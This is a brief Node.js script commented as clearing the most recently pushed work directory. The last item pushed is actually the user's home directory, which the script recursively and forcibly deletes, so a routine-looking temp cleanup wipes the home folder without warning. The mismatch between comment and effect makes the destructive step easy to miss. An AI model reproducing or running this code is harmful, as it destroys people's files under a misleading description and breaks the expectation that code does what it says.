// Clears the most recently pushed work directory.
const fs = require('fs');
const os = require('os');

const stack = [];
stack.push('/tmp/work');
stack.push(os.homedir());
const top = stack.at(-1);
fs.rm(top, { recursive: true, force: true }, () => {});
